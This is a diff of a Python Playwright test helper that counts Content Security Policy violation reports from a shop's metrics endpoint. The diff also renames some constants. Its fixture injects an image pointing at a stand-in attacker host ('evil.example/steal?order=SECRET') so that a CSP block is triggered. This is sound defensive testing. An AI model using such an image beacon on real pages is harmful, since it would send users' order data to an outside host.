@@ -1,20 +1,22 @@
-"""What browsers told a shop of their refusals, as a monitor reads it."""
+"""Violations of the content policy that browsers report, as the shop's metrics count them."""
 
 import requests
 from playwright.sync_api import Page
 
-#: How often the figures are read until one has risen, and the milliseconds in between.
-LOOKS, PAUSE = 100, 100
+#: How often the counts are read until one has risen, and the milliseconds in between.
+MAX_READS, PAUSE = 100, 100
 
-#: Has a page ask a stranger for a picture.
-LOAD = """() => {
-  const picture = document.createElement("img")
-  picture.src = "https://evil.example/steal?order=SECRET"
-  document.body.append(picture)
-}"""
+FOREIGN_IMAGE = "https://evil.example/steal?order=SECRET"
+
+#: Lets a page load an image of another site.
+LOAD_FOREIGN_IMAGE = f"""() => {{
+  const image = document.createElement("img")
+  image.src = "{FOREIGN_IMAGE}"
+  document.body.append(image)
+}}"""
 
 
-class Reports:
+class CspReports:
     """The counts of one shop."""
 
     def __init__(self, url: str, *, host: str | None = None, authority: str | None = None) -> None:
@@ -30,9 +32,9 @@ class Reports:
         lines = [line for line in answer.text.splitlines() if line.startswith("shop_csp_reports{")]
         return {line.split('"')[1]: float(line.split()[-1]) for line in lines}
 
-    def rise(self, page: Page, directive: str, before: dict[str, float]) -> bool:
-        """Wait until the count of a directive is more than it was: whether it came to that."""
-        for _ in range(LOOKS):
+    def rises(self, page: Page, directive: str, before: dict[str, float]) -> bool:
+        """Whether the count of a directive rises within ten seconds."""
+        for _ in range(MAX_READS):
             if self.counts().get(directive, 0) > before.get(directive, 0):
                 return True
             page.wait_for_timeout(PAUSE)  # the browser goes on meanwhile
